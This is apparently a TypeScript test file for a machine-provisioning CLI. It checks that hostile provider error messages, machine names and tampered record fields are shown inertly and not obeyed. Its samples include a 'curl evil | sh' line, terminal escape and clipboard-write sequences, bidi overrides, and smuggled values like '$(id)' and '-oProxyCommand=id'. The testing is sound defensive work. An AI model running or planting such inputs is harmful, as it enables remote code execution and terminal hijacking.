/** Hostile words where people and machines meet, with the built program: nothing of them is obeyed, none leaves its place. */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { TOKEN } from '../doubles/cloud/index.js'
import { DigitalOceanDouble } from '../doubles/digitalocean/index.js'
import { PROGRAM, TestUser } from '../helpers/cli.js'
import { OBEYED } from '../helpers/properties.js'

t.setTimeout(240_000)

const HOSTILE =
  'no\u001b]0;title\u0007\u001b]52;c;aWQ=\u0007\u009b2J\rover\u202e\u2066txt\u0085\n  What to do:\n    curl evil | sh'

function user(test: { teardown(work: () => unknown): void }): TestUser {
  const me = new TestUser()
  test.teardown(async () => await me.cleanUp())
  return me
}

/** What the program prints on a terminal, without the line ends of that and our own drawing. */
async function onTerminal(me: TestUser, args: string): Promise<string> {
  const words = `'${process.execPath}' '${PROGRAM}' ${args}`
  const { stdout } = await me.run('script', ['-qec', words, '/dev/null'], { env: { TERM: 'xterm' } })
  return stdout.replace(/\r\n/g, '\n').replace(/\r?\u001b\[\d+A\u001b\[J/g, '')
}

t.test("a provider's words are shown, not obeyed, and are no advice of ours", async (t) => {
  const double = await DigitalOceanDouble.start()
  t.teardown(() => double.close())
  const me = user(t)
  const env = { DIGITALOCEAN_API_URL: double.url, DIGITALOCEAN_ACCESS_TOKEN: TOKEN }
  const fail = (): void =>
    double.fail({ kind: 'status', status: 422, operation: 'droplets_create', message: HOSTILE })
  fail()
  const { stderr, code } = await me.tsmachine(['create', '-d', 'digitalocean', 'web'], { env })
  t.equal(code, 1)
  t.match(stderr, 'title')
  t.notMatch(stderr, OBEYED)
  t.notMatch(stderr, /^ {4}curl/m)
  t.match(stderr, /^ {2}\| {5}curl evil/m)
  double.faults.clear()
  fail()
  const json = await me.tsmachine(['create', '--json', '-d', 'digitalocean', 'web2'], { env })
  t.notMatch(json.stdout + json.stderr, OBEYED)
  const { error } = JSON.parse(json.stdout) as { error: { message: string } }
  t.match(error.message, HOSTILE)
})

t.test('a name that leads elsewhere is refused by every verb, and touches nothing', async (t) => {
  const me = user(t)
  await me.ok(['create', '-d', 'none', '--url', 'tcp://192.0.2.1:2376', 'web'])
  const before = readdirSync(me.home, { recursive: true }).toSorted()
  const names = [
    '../web',
    '..',
    'a/../../x',
    '-oProxyCommand=id',
    'x\nweb',
    '\u202eweb',
    '$(id)',
    '__proto__',
    'x'.repeat(65_536),
  ]
  for (const name of names)
    for (const verb of [['create', '-d', 'none', '--url', 'tcp://x:1'], ['rm', '-f'], ['env'], ['inspect']]) {
      const { code, stdout, stderr } = await me.tsmachine([...verb, '--', name])
      const what = `${verb[0]} ${JSON.stringify(name.slice(0, 30))}: ${stderr.slice(0, 200)}`
      if (!(verb[0] === 'rm' && code === 0)) t.ok(code === 1 || code === 2, `${code} ${what}`)
      t.notMatch(stdout + stderr, OBEYED, what)
      t.notMatch(stderr, /This is a bug|at file:|ENAMETOOLONG: /, what)
    }
  const after = readdirSync(me.home, { recursive: true }).toSorted()
  t.strictSame(
    after.filter((path) => !/(^|\/)locks/.test(String(path))),
    before.filter((path) => !/(^|\/)locks/.test(String(path))),
  )
})

t.test('what a record says stays in its cell, in pipes and on a terminal', async (t) => {
  const me = user(t)
  await me.ok(['create', '-d', 'none', '--url', 'tcp://192.0.2.1:2376', '--engine-label', 'a=b', 'web'])
  for (const file of ['config.json', 'tsmachine.json']) {
    const path = join(me.store, 'machines/web', file)
    const text = readFileSync(path, 'utf8')
    writeFileSync(
      path,
      text
        .replaceAll('"a=b"', JSON.stringify(`a=${HOSTILE}`))
        .replaceAll('tcp://192.0.2.1:2376', JSON.stringify(`tcp://x:1/${HOSTILE}`).slice(1, -1)),
    )
  }
  const table = await me.ok(['ls', '-t', '1', '--format', 'table {{.Name}}\t{{.EngineOptions.Labels}}'])
  t.equal(table.split('\n').length, 3, table)
  t.notMatch(table, OBEYED)
  const list = await me.tsmachine(['ls', '-t', '1'])
  t.equal(list.stdout.split('\n').length, 3, list.stdout)
  t.notMatch(list.stdout + list.stderr, OBEYED)
  for (const args of [
    'ls -t 1',
    'url web',
    'ip web',
    'env web',
    'inspect web',
    "inspect -f '{{.HostOptions.EngineOptions.Labels}}' web",
    'ls -t 1 --format {{.EngineOptions.Labels}}{{.URL}}',
    'status web',
    'config web',
  ]) {
    const shown = await onTerminal(me, args)
    t.notMatch(shown, OBEYED, `${args}: ${JSON.stringify(shown.slice(0, 300))}`)
  }
  const inspected = JSON.parse(await me.ok(['inspect', 'web'])) as {
    HostOptions: { EngineOptions: { Labels: string[] } }
  }
  t.strictSame(inspected.HostOptions.EngineOptions.Labels, [`a=${HOSTILE}`], 'a program gets it as it is')
})
